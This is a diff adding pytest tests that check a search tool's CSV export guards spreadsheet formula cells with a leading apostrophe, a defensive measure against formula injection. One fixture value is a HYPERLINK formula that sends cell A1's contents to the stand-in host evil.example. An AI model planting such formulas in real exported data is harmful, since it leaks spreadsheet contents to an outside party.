@@ -124,3 +124,50 @@ def test_reuters_export_count_equals_the_total(reuters_index: Path) -> None:
         results = ix.search("oil OR prices", limit=1000, collapse=False)
     assert len(ids) == len(set(ids)) == results.total > 1000
     assert ids[:1000] == [h.id for h in results.hits]
+
+
+FORMULAS = {"id": "=1+1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "body": "-2+3 oil", "tags": ["@SUM(1)", "b"], "source": "+Wire",
+            "url": "\uff1d1+1", "published": "2020-01-01"}
+
+
+@pytest.mark.parametrize("where", ["cli", "api"])
+def test_csv_cells_that_would_open_as_formulas_are_guarded(tmp_path: Path, where: str) -> None:
+    """A CSV cell starting with = + - @ (tab, CR, LF, or their full-width forms) gets a
+    ' before it, so a spreadsheet shows it as text; JSON Lines keep every value exact."""
+    build_index([write_jsonl(tmp_path / "a.jsonl", [FORMULAS, {
+        "id": "plain", "title": "a=b oil", "body": "oil", "tags": ["x-y"]}])],
+        index=tmp_path / "ix")
+    fields = "id,title,body,tags,source,url,score,rank"
+    if where == "cli":
+        text = run(tmp_path / "ix", "oil", "--fields", fields, "--sort", "oldest")
+        lines = run(tmp_path / "ix", "oil", "--fields", fields, "--format", "jsonl",
+                    "--sort", "oldest")
+    else:
+        from starlette.testclient import TestClient
+
+        from searcher.serve.app import create_app
+
+        with TestClient(create_app(tmp_path / "ix")) as c:
+            params = {"q": "oil", "fields": fields, "sort": "oldest"}
+            text = c.get("/api/export", params=params).text
+            lines = c.get("/api/export", params={**params, "format": "jsonl"}).text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[0] == {"id": "'=1+1", "title": "'" + FORMULAS["title"], "body": "'-2+3 oil",
+                       "tags": "'@SUM(1); b", "source": "'+Wire", "url": "'\uff1d1+1",
+                       "score": "", "rank": "1"}
+    assert rows[1] == {"id": "plain", "title": "a=b oil", "body": "oil", "tags": "x-y",
+                       "source": "", "url": "", "score": "", "rank": "2"}
+    exact = json.loads(lines.splitlines()[0])
+    assert {k: exact[k] for k in ("id", "title", "body", "tags", "source", "url")
+            } == {k: v for k, v in FORMULAS.items() if k != "published"}
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\uff1d1", "'\uff1d1"), ("\uff20A1", "'\uff20A1"),
+    ("", ""), ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"), ("1987-03-15", "1987-03-15")])
+def test_which_cells_are_guarded(cell: str, written: str) -> None:
+    from searcher.export import inert
+
+    assert inert(cell) == written
